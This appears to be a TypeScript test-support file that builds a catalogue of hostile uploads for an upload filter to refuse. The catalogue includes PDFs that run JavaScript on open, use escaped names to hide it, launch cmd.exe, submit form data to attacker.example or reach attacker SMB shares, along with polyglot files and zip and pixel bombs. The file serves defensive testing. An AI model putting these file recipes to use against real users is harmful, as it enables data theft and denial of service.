import zlib from "node:zlib";
import { PDFArray, PDFHexString, PDFName, PDFString } from "pdf-lib";
import { MAX_UPLOAD_BYTES } from "@/domain/documents/upload-limits";
import {
  concat,
  handWrittenPdf,
  jpegClaiming,
  latin1,
  ONE_PAGE,
  photo,
  pngBomb,
  pngWithText,
  statementPdf,
  zipOf,
} from "./sample-files.test-support";
import type { UploadRefusalReason } from "./upload-refusal";

export interface HostileFile {
  /** What the file is, as a test name reads. */
  name: string;
  /** What its sender called it: names never decide anything. */
  filename: string;
  reason: UploadRefusalReason;
  build: () => Promise<Uint8Array> | Uint8Array;
}

const SCRIPT_PAGE =
  "<!doctype html><html><body><script>fetch('/api/trpc/identity.me')</script></body></html>";

/** A PDF with one more entry in its catalog, made with pdf-lib's own objects. */
const pdfWithCatalog = (
  key: string,
  value: (ctx: import("pdf-lib").PDFContext) => import("pdf-lib").PDFObject,
) => statementPdf(1, (doc) => doc.catalog.set(PDFName.of(key), value(doc.context)));

/** A PDF whose first page carries one annotation. */
const pdfWithAnnotation = (annotation: Record<string, unknown>) =>
  statementPdf(1, (doc, page) => {
    const ref = doc.context.register(
      doc.context.obj({ Type: "Annot", Rect: [0, 0, 10, 10], ...annotation } as never),
    );
    page.node.set(PDFName.of("Annots"), doc.context.obj([ref]));
  });

/** A link annotation whose action is `action`. */
const pdfWithAction = (action: Record<string, unknown>) => pdfWithAnnotation({ Subtype: "Link", A: action });

const js = (code: string) => PDFString.of(code);

const deflatedSpaces = new Map<number, Buffer>();
/** `megabytes` MB of spaces, deflated (seconds of work for 200 MB: made once per process). */
function bombOf(megabytes: number): Buffer {
  let bomb = deflatedSpaces.get(megabytes);
  if (!bomb) {
    bomb = zlib.deflateSync(Buffer.alloc(megabytes * 1024 * 1024, 0x20), { level: 9 });
    deflatedSpaces.set(megabytes, bomb);
  }
  return bomb;
}

/**
 * Issue 10's hostile files, each built here (nothing binary is committed), each with the reason
 * it must be refused for. The inspection's unit tests try every one; the endpoint's tests a
 * representative few end to end.
 */
export const HOSTILE_FILES: readonly HostileFile[] = [
  { name: "an empty file", filename: "statement.pdf", reason: "empty", build: () => new Uint8Array() },
  { name: "a one-byte file", filename: "statement.pdf", reason: "unsupportedType", build: () => latin1("%") },
  {
    name: "a file over 25 MB",
    filename: "statement.pdf",
    reason: "tooLarge",
    build: async () => concat(await statementPdf(), new Uint8Array(MAX_UPLOAD_BYTES)),
  },
  {
    name: "a plain text file",
    filename: "statement.pdf",
    reason: "unsupportedType",
    build: () => latin1("Account 1234\n"),
  },
  {
    name: "an HTML page renamed .pdf",
    filename: "statement.pdf",
    reason: "unsupportedType",
    build: () => latin1(SCRIPT_PAGE),
  },
  {
    name: "an SVG with a script",
    filename: "id.svg",
    reason: "unsupportedType",
    build: () =>
      latin1('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'),
  },
  {
    name: "an SVG renamed .png",
    filename: "id.png",
    reason: "unsupportedType",
    build: () =>
      latin1('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>'),
  },
  {
    name: "a Windows program with a double extension (statement.pdf.exe)",
    filename: "statement.pdf.exe",
    reason: "program",
    build: () =>
      concat(
        latin1("MZ\x90\x00\x03\x00\x00\x00"),
        new Uint8Array(56),
        latin1("This program cannot be run in DOS mode."),
      ),
  },
  {
    name: "a Windows program renamed .pdf",
    filename: "statement.pdf",
    reason: "program",
    build: () => concat(latin1("MZ"), new Uint8Array(62), latin1("PE\0\0")),
  },
  {
    name: "a Linux program (ELF) renamed .jpg",
    filename: "photo.jpg",
    reason: "program",
    build: () => concat(latin1("\x7fELF\x02\x01\x01\x00"), new Uint8Array(56)),
  },
  {
    name: "a ZIP archive",
    filename: "documents.zip",
    reason: "archive",
    build: async () => zipOf("statement.pdf", await statementPdf()),
  },
  {
    name: "a zip bomb (64 MB of zeros deflated), renamed .pdf",
    filename: "statement.pdf",
    reason: "archive",
    build: () => zipOf("zeros.bin", new Uint8Array(64 * 1024 * 1024), { deflate: true }),
  },
  {
    name: "a gzip file",
    filename: "statement.pdf.gz",
    reason: "archive",
    build: () => new Uint8Array(zlib.gzipSync("statement")),
  },
  {
    name: "a RAR archive",
    filename: "statement.rar",
    reason: "archive",
    build: () => concat(latin1("Rar!\x1a\x07\x01\x00"), new Uint8Array(64)),
  },
  {
    name: "a 7z archive",
    filename: "statement.7z",
    reason: "archive",
    build: () => concat(latin1("7z\xbc\xaf\x27\x1c\x00\x04"), new Uint8Array(64)),
  },
  {
    name: "a Word document (docx)",
    filename: "letter.docx",
    reason: "unsupportedType",
    build: () =>
      zipOf(
        "[Content_Types].xml",
        latin1(
          '<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
        ),
      ),
  },
  {
    name: "an MP4 video",
    filename: "video.mp4",
    reason: "unsupportedType",
    build: () => concat(latin1("\0\0\0\x18ftypisom\0\0\x02\0isomiso2"), new Uint8Array(64)),
  },
  { name: "a GIF", filename: "id.gif", reason: "unsupportedType", build: () => photo("gif", 32, 32) },
  { name: "a TIFF", filename: "scan.tif", reason: "unsupportedType", build: () => photo("tiff", 32, 32) },
  {
    name: "a WebP image",
    filename: "id.webp",
    reason: "unsupportedType",
    build: () => photo("webp", 32, 32),
  },
  {
    name: "an AVIF image",
    filename: "id.heic",
    reason: "unsupportedType",
    build: () => photo("avif", 32, 32),
  },
  {
    name: "a BMP image",
    filename: "id.bmp",
    reason: "unsupportedType",
    build: () => {
      const bmp = Buffer.alloc(58);
      bmp.write("BM", 0, "latin1");
      bmp.writeUInt32LE(58, 2);
      bmp.writeUInt32LE(54, 10);
      bmp.writeUInt32LE(40, 14);
      bmp.writeInt32LE(1, 18);
      bmp.writeInt32LE(1, 22);
      bmp.writeUInt16LE(1, 26);
      bmp.writeUInt16LE(24, 28);
      return new Uint8Array(bmp);
    },
  },
  {
    name: "a PDF whose header comes after 1 KB of junk",
    filename: "statement.pdf",
    reason: "unsupportedType",
    build: async () => concat(new Uint8Array(1024).fill(0x41), await statementPdf()),
  },
  {
    name: "a PDF that is also a ZIP (polyglot)",
    filename: "statement.pdf",
    reason: "hiddenFile",
    build: async () => concat(await statementPdf(), zipOf("payload.html", latin1(SCRIPT_PAGE))),
  },
  {
    name: "a PDF carrying a ZIP inside a stream",
    filename: "statement.pdf",
    reason: "hiddenFile",
    build: () => {
      const zip = Buffer.from(zipOf("run.js", latin1("alert(1)"))).toString("latin1");
      return handWrittenPdf([...ONE_PAGE(), `<< /Length ${zip.length} >>\nstream\n${zip}\nendstream`]);
    },
  },
  {
    name: "a PDF with an HTML page in its first KB (polyglot)",
    filename: "statement.pdf",
    reason: "webCode",
    build: async () => {
      const pdf = Buffer.from(await statementPdf()).toString("latin1");
      const headerEnd = pdf.indexOf("\n") + 1;
      return latin1(`${pdf.slice(0, headerEnd)}%${SCRIPT_PAGE}\n${pdf.slice(headerEnd)}`);
    },
  },
  {
    name: "a PDF that runs JavaScript when opened (OpenAction)",
    filename: "statement.pdf",
    reason: "javascript",
    build: () => pdfWithCatalog("OpenAction", (ctx) => ctx.obj({ S: "JavaScript", JS: js("app.alert(1)") })),
  },
  {
    name: "a PDF with JavaScript in its names tree",
    filename: "statement.pdf",
    reason: "javascript",
    build: () =>
      pdfWithCatalog("Names", (ctx) =>
        ctx.obj({ JavaScript: ctx.obj({ Names: [js("a"), ctx.obj({ S: "JavaScript", JS: js("1") })] }) }),
      ),
  },
  {
    name: "a PDF with additional actions (/AA) on its page",
    filename: "statement.pdf",
    reason: "javascript",
    build: () =>
      statementPdf(1, (doc, page) =>
        page.node.set(
          PDFName.of("AA"),
          doc.context.obj({ O: doc.context.obj({ S: "JavaScript", JS: js("1") }) }),
        ),
      ),
  },
  {
    name: "a PDF with JavaScript behind an escaped name (/J#61vaScript)",
    filename: "statement.pdf",
    reason: "javascript",
    build: () => handWrittenPdf(ONE_PAGE("/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> ")),
  },
  {
    name: "a PDF with a launch action",
    filename: "statement.pdf",
    reason: "launch",
    build: () => pdfWithAction({ S: "Launch", F: PDFString.of("cmd.exe") }),
  },
  {
    name: "a PDF with an embedded file",
    filename: "statement.pdf",
    reason: "embeddedFile",
    build: () =>
      statementPdf(1, (doc) => {
        const file = doc.context.register(doc.context.flateStream("MZ payload", { Type: "EmbeddedFile" }));
        const spec = doc.context.obj({
          Type: "Filespec",
          F: PDFString.of("a.exe"),
          EF: doc.context.obj({ F: file }),
        });
        doc.catalog.set(
          PDFName.of("Names"),
          doc.context.obj({ EmbeddedFiles: doc.context.obj({ Names: [PDFString.of("a.exe"), spec] }) }),
        );
      }),
  },
  {
    name: "a PDF with a file attachment annotation",
    filename: "statement.pdf",
    reason: "embeddedFile",
    build: () => pdfWithAnnotation({ Subtype: "FileAttachment", Contents: PDFString.of("invoice") }),
  },
  {
    name: "a PDF that submits a form over the internet",
    filename: "statement.pdf",
    reason: "formSubmission",
    build: () => pdfWithAction({ S: "SubmitForm", F: PDFString.of("https://attacker.example/collect") }),
  },
  {
    name: "a PDF that opens a file on a network share when opened (OpenAction GoToR, issue 19)",
    filename: "statement.pdf",
    reason: "remoteAction",
    build: () =>
      pdfWithCatalog("OpenAction", (ctx) =>
        ctx.obj({ S: "GoToR", F: PDFHexString.fromText(String.raw`\\attacker\share\x.pdf`), D: [0, "Fit"] }),
      ),
  },
  {
    name: "a PDF whose link goes to another PDF file (GoToR)",
    filename: "statement.pdf",
    reason: "remoteAction",
    build: () => pdfWithAction({ S: "GoToR", F: PDFString.of("other.pdf"), D: [0, "Fit"] }),
  },
  {
    name: "a PDF whose link is a file: address",
    filename: "statement.pdf",
    reason: "remoteAction",
    build: () => pdfWithAction({ S: "URI", URI: PDFString.of("file:///C:/Windows/System32/calc.exe") }),
  },
  {
    name: "a PDF whose link is a network path without a scheme",
    filename: "statement.pdf",
    reason: "remoteAction",
    build: () => pdfWithAction({ S: "URI", URI: PDFHexString.fromText(String.raw`\\attacker\share`) }),
  },
  {
    name: "a PDF whose link is an smb: address behind a reference",
    filename: "statement.pdf",
    reason: "remoteAction",
    build: () =>
      statementPdf(1, (doc, page) => {
        const uri = doc.context.register(PDFString.of("smb://attacker/share"));
        const action = doc.context.register(doc.context.obj({ S: "URI", URI: uri }));
        const link = doc.context.register(
          doc.context.obj({ Type: "Annot", Subtype: "Link", Rect: [0, 0, 10, 10], A: action }),
        );
        page.node.set(PDFName.of("Annots"), doc.context.obj([link]));
      }),
  },
  {
    name: "a PDF with a thread action into another file",
    filename: "statement.pdf",
    reason: "remoteAction",
    build: () => pdfWithAction({ S: "Thread", F: PDFString.of("other.pdf"), D: 0 }),
  },
  {
    name: "a 200 KB PDF whose page stream inflates to 200 MB (issue 19)",
    filename: "statement.pdf",
    reason: "inflatesTooMuch",
    build: () =>
      statementPdf(1, (doc, page) => {
        const bomb = bombOf(200);
        const stream = doc.context.register(
          doc.context.stream(bomb, { Filter: "FlateDecode", Length: bomb.length }),
        );
        page.node.set(PDFName.of("Contents"), stream);
      }),
  },
  {
    name: "a PDF whose object stream inflates past the limit, written by hand",
    filename: "statement.pdf",
    reason: "inflatesTooMuch",
    build: () => {
      const bomb = bombOf(80).toString("latin1");
      return handWrittenPdf([
        ...ONE_PAGE(),
        `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${bomb.length} >>\nstream\n${bomb}\nendstream`,
      ]);
    },
  },
  {
    name: "a PDF that imports form data",
    filename: "statement.pdf",
    reason: "formSubmission",
    build: () => pdfWithAction({ S: "ImportData", F: PDFString.of("data.fdf") }),
  },
  {
    name: "a PDF with rich media",
    filename: "statement.pdf",
    reason: "richMedia",
    build: () => pdfWithAnnotation({ Subtype: "RichMedia" }),
  },
  {
    name: "a PDF with an XFA form",
    filename: "statement.pdf",
    reason: "richMedia",
    build: () =>
      pdfWithCatalog("AcroForm", (ctx) =>
        ctx.obj({ Fields: PDFArray.withContext(ctx), XFA: PDFHexString.fromText("<xdp:xdp/>") }),
      ),
  },
  {
    name: "an encrypted PDF",
    filename: "statement.pdf",
    reason: "encrypted",
    build: () =>
      handWrittenPdf(
        [
          ...ONE_PAGE(),
          `<< /Filter /Standard /V 1 /R 2 /O <${"28bf4e5e".repeat(8)}> /U <${"c3a1f1d2".repeat(8)}> /P -44 >>`,
        ],
        `/Encrypt 4 0 R /ID [<${"0a".repeat(16)}> <${"0a".repeat(16)}>] `,
      ),
  },
  {
    name: "a damaged PDF (a header and nothing a parser can use)",
    filename: "statement.pdf",
    reason: "damagedPdf",
    build: () => latin1("%PDF-1.7\n%\xe2\xe3\xcf\xd3\nthis is not a document\n%%EOF\n"),
  },
  {
    name: "a decompression-bomb PNG (30000 × 30000 declared, a few bytes of data)",
    filename: "photo.png",
    reason: "tooManyPixels",
    build: () => pngBomb(30_000, 30_000),
  },
  {
    name: "a JPEG whose header claims 60000 × 60000 pixels",
    filename: "photo.jpg",
    reason: "tooManyPixels",
    build: () => jpegClaiming(60_000, 60_000),
  },
  {
    name: "a truncated PNG",
    filename: "photo.png",
    reason: "damagedImage",
    build: async () => {
      const png = await photo("png", 300, 200);
      return png.subarray(0, Math.floor(png.length / 2));
    },
  },
  {
    name: "a truncated JPEG",
    filename: "photo.jpg",
    reason: "damagedImage",
    build: async () => {
      const jpeg = await photo("jpeg", 300, 200);
      return jpeg.subarray(0, Math.floor(jpeg.length / 2));
    },
  },
  {
    name: "a JPEG with a ZIP appended (polyglot image)",
    filename: "photo.jpg",
    reason: "hiddenFile",
    build: async () => concat(await photo("jpeg", 64, 64), zipOf("payload.html", latin1(SCRIPT_PAGE))),
  },
  {
    name: "a PNG with a script in a text chunk",
    filename: "photo.png",
    reason: "webCode",
    build: () => pngWithText(SCRIPT_PAGE),
  },
];
